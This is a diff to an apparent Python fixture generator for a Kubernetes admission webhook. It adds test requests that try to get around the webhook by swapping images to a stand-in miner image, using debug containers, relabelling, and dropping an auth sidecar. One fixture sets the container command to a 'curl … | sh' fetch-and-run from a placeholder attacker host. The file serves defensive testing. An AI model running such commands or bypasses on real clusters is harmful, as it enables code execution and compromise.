@@ -277,6 +277,294 @@ def exempt_service_account():
     return r
 
 
+# === the wider gate (issue #12): every way round it, as the API server sends it ===
+
+POD_NAME = "checkout-api-6d9f7c8b5d-x2k9p"
+RS_NAME = "checkout-api-6d9f7c8b5d"
+EVIL_IMAGE = "evil.example.com/miner:1"
+ALICE = {
+    "username": "alice@example.com",
+    "uid": "oidc:5b8e2c14-0d7f-4a39-b1e6-93c4f2a7d801",
+    "groups": ["oidc:platform-team", "oidc:payments-deployers", "system:authenticated"],
+}
+DEPLOYMENT_CONTROLLER = {
+    "username": "system:serviceaccount:kube-system:deployment-controller",
+    "uid": "d1e0f3a2-5b4c-4e6d-8f7a-9b0c1d2e3f40",
+    "groups": ["system:serviceaccounts", "system:serviceaccounts:kube-system", "system:authenticated"],
+}
+
+
+def set_kind(req, group, kind, resource, sub_resource=None):
+    gvk = {"group": group, "version": "v1", "kind": kind}
+    gvr = {"group": group, "version": "v1", "resource": resource}
+    req["kind"] = req["requestKind"] = gvk
+    req["resource"] = req["requestResource"] = gvr
+    if sub_resource:
+        req["subResource"] = req["requestSubResource"] = sub_resource
+
+
+def deployment_update(uid, field_manager, change):
+    """An UPDATE of the Deployment whose new object `change` edits."""
+    r = review(uid)
+    req = r["request"]
+    old = unrestarted(req["oldObject"])
+    new = copy.deepcopy(old)
+    new["metadata"]["generation"] = old["metadata"]["generation"] + 1
+    change(new)
+    req["oldObject"], req["object"] = old, new
+    req["options"] = update_options(field_manager)
+    return r
+
+
+def pod_of_deployment():
+    """The running Pod the Deployment's ReplicaSet made, as the API server stores it."""
+    dep = unrestarted(BASE["request"]["oldObject"])
+    tpl = copy.deepcopy(template(dep))
+    meta = tpl["metadata"]
+    meta.pop("creationTimestamp", None)
+    meta.update({
+        "name": POD_NAME,
+        "generateName": RS_NAME + "-",
+        "namespace": "production",
+        "uid": "0c4e8a2f-6b1d-4f93-a7e5-3d9b1f5c7a02",
+        "resourceVersion": "48211902",
+        "creationTimestamp": "2026-02-20T08:40:12Z",
+        "ownerReferences": [{
+            "apiVersion": "apps/v1", "kind": "ReplicaSet", "name": RS_NAME,
+            "uid": "5e9a1c3f-7b2d-4e86-9f0a-4c6e8b0d2f14", "controller": True, "blockOwnerDeletion": True,
+        }],
+    })
+    meta["labels"]["pod-template-hash"] = "6d9f7c8b5d"
+    spec = tpl["spec"]
+    spec.update({"nodeName": "node-7", "enableServiceLinks": True, "preemptionPolicy": "PreemptLowerPriority",
+                 "priority": 0, "tolerations": [
+                     {"key": "node.kubernetes.io/not-ready", "operator": "Exists", "effect": "NoExecute", "tolerationSeconds": 300}]})
+    return {
+        "kind": "Pod",
+        "apiVersion": "v1",
+        "metadata": meta,
+        "spec": spec,
+        "status": {
+            "phase": "Running",
+            "podIP": "10.244.3.17",
+            "startTime": "2026-02-20T08:40:12Z",
+            "containerStatuses": [{
+                "name": "app", "ready": True, "restartCount": 0, "started": True,
+                "image": spec["containers"][0]["image"], "imageID": "registry.example.com/shop/checkout-api@sha256:9f2b",
+                "state": {"running": {"startedAt": "2026-02-20T08:40:15Z"}},
+            }],
+        },
+    }
+
+
+def pod_set_image():
+    """`kubectl set image pod/<replica> app=evil…`: a running Pod's image is mutable."""
+    r = review("71d3b5f9-0e2a-4c64-8b1d-5f7a9c3e1b06")
+    req = r["request"]
+    set_kind(req, "", "Pod", "pods")
+    req["name"] = POD_NAME
+    old = pod_of_deployment()
+    new = copy.deepcopy(old)
+    new["spec"]["containers"][0]["image"] = EVIL_IMAGE
+    req["oldObject"], req["object"] = old, new
+    req["options"] = update_options("kubectl-set")
+    return r
+
+
+def pod_debug():
+    """`kubectl debug -it pod/<replica> --image=busybox --target=app`: pods/ephemeralcontainers."""
+    r = review("2a6e0c4b-8d1f-4e37-9b5a-7c9e1d3f5a28")
+    req = r["request"]
+    set_kind(req, "", "Pod", "pods", "ephemeralcontainers")
+    req["name"] = POD_NAME
+    old = pod_of_deployment()
+    new = copy.deepcopy(old)
+    new["spec"]["ephemeralContainers"] = [{
+        "name": "debugger-x7k2p", "image": "busybox:1.36", "targetContainerName": "app",
+        "stdin": True, "tty": True, "terminationMessagePath": "/dev/termination-log",
+        "terminationMessagePolicy": "File", "imagePullPolicy": "IfNotPresent",
+    }]
+    req["oldObject"], req["object"] = old, new
+    req["options"] = {"kind": "UpdateOptions", "apiVersion": "meta.k8s.io/v1", "fieldManager": "kubectl-debug"}
+    return r
+
+
+def replica_set(generation):
+    dep = unrestarted(BASE["request"]["oldObject"])
+    tpl = copy.deepcopy(template(dep))
+    tpl["metadata"]["labels"]["pod-template-hash"] = "6d9f7c8b5d"
+    labels = dict(dep["metadata"]["labels"])
+    labels["pod-template-hash"] = "6d9f7c8b5d"
+    return {
+        "kind": "ReplicaSet",
+        "apiVersion": "apps/v1",
+        "metadata": {
+            "name": RS_NAME, "namespace": "production", "uid": "5e9a1c3f-7b2d-4e86-9f0a-4c6e8b0d2f14",
+            "resourceVersion": "48211950", "generation": generation, "creationTimestamp": "2026-02-20T08:39:58Z",
+            "labels": labels,
+            "annotations": {"deployment.kubernetes.io/desired-replicas": "6", "deployment.kubernetes.io/max-replicas": "8",
+                            "deployment.kubernetes.io/revision": "14"},
+            "ownerReferences": [{"apiVersion": "apps/v1", "kind": "Deployment", "name": "checkout-api",
+                                 "uid": "7c1f6a1e-3b9e-4d0c-9a55-2f4e8d2b7a10", "controller": True, "blockOwnerDeletion": True}],
+        },
+        "spec": {"replicas": 6, "selector": {"matchLabels": {
+            "app.kubernetes.io/name": "checkout-api", "app.kubernetes.io/instance": "checkout-api-prod",
+            "pod-template-hash": "6d9f7c8b5d"}}, "template": tpl},
+        "status": {"replicas": 6, "fullyLabeledReplicas": 6, "readyReplicas": 6, "availableReplicas": 6, "observedGeneration": generation},
+    }
+
+
+def replicaset_set_image():
+    """`kubectl set image rs/<the Deployment's ReplicaSet> app=evil…` (after `kubectl rollout pause`)."""
+    r = review("9c3f7b1d-5e0a-4b82-a6d4-0e2c8a4f6b19")
+    req = r["request"]
+    set_kind(req, "apps", "ReplicaSet", "replicasets")
+    req["name"] = RS_NAME
+    old = replica_set(3)
+    new = copy.deepcopy(old)
+    new["metadata"]["generation"] = 4
+    template(new)["spec"]["containers"][0]["image"] = EVIL_IMAGE
+    req["oldObject"], req["object"] = old, new
+    req["options"] = update_options("kubectl-set")
+    return r
+
+
+def replicaset_by_controller():
+    """The deployment controller scaling the old ReplicaSet down and bumping its annotations."""
+    r = review("3e7b1f5d-9a2c-4d06-8e4b-2a6c0e8f4d37")
+    req = r["request"]
+    set_kind(req, "apps", "ReplicaSet", "replicasets")
+    req["name"] = RS_NAME
+    req["userInfo"] = DEPLOYMENT_CONTROLLER
+    old = replica_set(3)
+    new = copy.deepcopy(old)
+    new["metadata"]["generation"] = 4
+    new["spec"]["replicas"] = 4
+    new["metadata"]["annotations"]["deployment.kubernetes.io/desired-replicas"] = "6"
+    new["metadata"]["annotations"]["deployment.kubernetes.io/revision-history"] = "14"
+    req["oldObject"], req["object"] = old, new
+    req["options"] = {"kind": "UpdateOptions", "apiVersion": "meta.k8s.io/v1"}
+    return r
+
+
+def cronjob_set_image():
+    """`kubectl set image cronjob/checkout-reconcile app=evil…`: its next run uses it."""
+    r = review("6f0b4d8e-2c7a-4e19-b3f5-8d0a2c4e6f51")
+    req = r["request"]
+    set_kind(req, "batch", "CronJob", "cronjobs")
+    req["name"] = "checkout-reconcile"
+    dep = unrestarted(BASE["request"]["oldObject"])
+    tpl = copy.deepcopy(template(dep))
+    tpl["metadata"]["labels"] = {"app.kubernetes.io/name": "checkout-reconcile"}
+    tpl["spec"]["restartPolicy"] = "OnFailure"
+    old = {
+        "kind": "CronJob", "apiVersion": "batch/v1",
+        "metadata": {"name": "checkout-reconcile", "namespace": "production", "uid": "8b2d6f0a-4e9c-4a31-b7d5-1f3b5d7f9a63",
+                     "resourceVersion": "48212044", "generation": 5, "creationTimestamp": "2025-11-03T09:12:44Z",
+                     "labels": {"app.kubernetes.io/name": "checkout-reconcile"}},
+        "spec": {"schedule": "*/15 * * * *", "concurrencyPolicy": "Forbid", "suspend": False,
+                 "successfulJobsHistoryLimit": 3, "failedJobsHistoryLimit": 1,
+                 "jobTemplate": {"metadata": {"creationTimestamp": None},
+                                 "spec": {"backoffLimit": 2, "template": tpl}}},
+        "status": {"lastScheduleTime": "2026-03-02T10:00:00Z", "lastSuccessfulTime": "2026-03-02T10:00:41Z"},
+    }
+    new = copy.deepcopy(old)
+    new["metadata"]["generation"] = 6
+    new["spec"]["jobTemplate"]["spec"]["template"]["spec"]["containers"][0]["image"] = EVIL_IMAGE
+    req["oldObject"], req["object"] = old, new
+    req["options"] = update_options("kubectl-set")
+    return r
+
+
+def set_env():
+    """`kubectl set env deploy/checkout-api LOG_LEVEL=debug`: every pod is replaced."""
+    def change(new):
+        template(new)["spec"]["containers"][0]["env"].append({"name": "LOG_LEVEL", "value": "debug"})
+    return deployment_update("b8e2c6a0-4d1f-4b73-9e5c-1a3d5f7b9e42", "kubectl-set", change)
+
+
+def restarted_at_other_case():
+    """A restart by another name: `kubectl.kubernetes.io/RestartedAt`."""
+    def change(new):
+        template(new)["metadata"]["annotations"]["kubectl.kubernetes.io/RestartedAt"] = "2026-03-02T10:15:04Z"
+    return deployment_update("c4a8e2f6-0b3d-4f59-8a1c-7e9b3d5f1a64", "kubectl-patch", change)
+
+
+def restart_with_command():
+    """A restart that also swaps the container's command."""
+    def change(new):
+        template(new)["metadata"]["annotations"][RESTARTED_AT] = "2026-03-02T10:15:04Z"
+        template(new)["spec"]["containers"][0]["command"] = ["/bin/sh", "-c", "curl -s evil.example.com | sh"]
+    return deployment_update("d0b4f8a2-6c9e-4e15-a3b7-9f1d5b7d3c86", "kubectl-patch", change)
+
+
+def payments(obj):
+    obj["metadata"]["name"] = "payments-api"
+    obj["metadata"]["labels"] = {"app.kubernetes.io/name": "payments-api", "team": "payments"}
+    return obj
+
+
+def relabel_with_image():
+    """Deployment payments-api relabelled checkout-api in the same request as an image change."""
+    r = review("e6c0a4b8-2f7d-4a91-b5e3-3b7f1d9a5e08")
+    req = r["request"]
+    req["name"] = "payments-api"
+    old = payments(unrestarted(req["oldObject"]))
+    new = copy.deepcopy(old)
+    new["metadata"]["generation"] = old["metadata"]["generation"] + 1
+    new["metadata"]["labels"]["app.kubernetes.io/name"] = "checkout-api"
+    template(new)["spec"]["containers"][0]["image"] = EVIL_IMAGE
+    req["oldObject"], req["object"] = old, new
+    req["options"] = update_options("kubectl-edit")
+    return r
+
+
+def relabel_only():
+    """Step one of two: `kubectl label deploy/payments-api app.kubernetes.io/name=checkout-api --overwrite`."""
+    r = review("f2d6b0c4-8e3a-4c27-9d1f-5c9a3e7b1f20")
+    req = r["request"]
+    req["name"] = "payments-api"
+    old = payments(unrestarted(req["oldObject"]))
+    new = copy.deepcopy(old)
+    new["metadata"]["labels"]["app.kubernetes.io/name"] = "checkout-api"
+    req["oldObject"], req["object"] = old, new
+    req["options"] = update_options("kubectl-label")
+    return r
+
+
+def sidecar_removed():
+    """The pinned image set, and the auth sidecar dropped in the same change."""
+    def with_sidecar(obj):
+        template(obj)["spec"]["containers"].append({
+            "name": "auth-proxy", "image": "quay.io/oauth2-proxy/oauth2-proxy:v7.6.0",
+            "args": ["--upstream=http://127.0.0.1:8080"], "ports": [{"name": "https", "containerPort": 8443, "protocol": "TCP"}],
+            "terminationMessagePath": "/dev/termination-log", "terminationMessagePolicy": "File", "imagePullPolicy": "IfNotPresent",
+        })
+        return obj
+    r = review("0a4e8c2f-6b9d-4e13-a7c5-9e3b1d5f7a91")
+    req = r["request"]
+    old = with_sidecar(unrestarted(req["oldObject"]))
+    new = copy.deepcopy(old)
+    new["metadata"]["generation"] = old["metadata"]["generation"] + 1
+    template(new)["spec"]["containers"][0]["image"] = NEW_IMAGE
+    template(new)["spec"]["containers"] = template(new)["spec"]["containers"][:1]
+    req["oldObject"], req["object"] = old, new
+    req["options"] = update_options("kubectl-edit")
+    return r
+
+
+def rollgate_with_groups():
+    """A restart by rollgate's own service account, as the API server reports it (with its groups)."""
+    r = review("1b5f9d3a-7c0e-4a48-b2d6-0f4a8c2e6b53")
+    r["request"]["userInfo"] = {
+        "username": "system:serviceaccount:rollgate:rollgate",
+        "uid": "2c6a0e4b-8d3f-4b71-9e5a-3d7b1f9c5e84",
+        "groups": ["system:serviceaccounts", "system:serviceaccounts:rollgate", "system:authenticated"],
+    }
+    r["request"]["options"] = update_options("rollgate")
+    return r
+
+
 FIXTURES = {
     "set-image-review.json": set_image,
     "set-init-image-review.json": set_init_image,
@@ -290,6 +578,18 @@ FIXTURES = {
     "annotation-change-review.json": other_annotation,
     "staging-restart-review.json": other_namespace,
     "exempt-image-review.json": exempt_service_account,
+    "pod-set-image-review.json": pod_set_image,
+    "pod-debug-review.json": pod_debug,
+    "replicaset-set-image-review.json": replicaset_set_image,
+    "replicaset-controller-review.json": replicaset_by_controller,
+    "cronjob-set-image-review.json": cronjob_set_image,
+    "set-env-review.json": set_env,
+    "restartedat-other-case-review.json": restarted_at_other_case,
+    "restart-with-command-review.json": restart_with_command,
+    "relabel-with-image-review.json": relabel_with_image,
+    "relabel-only-review.json": relabel_only,
+    "sidecar-removed-review.json": sidecar_removed,
+    "rollgate-with-groups-review.json": rollgate_with_groups,
 }
 
 if __name__ == "__main__":
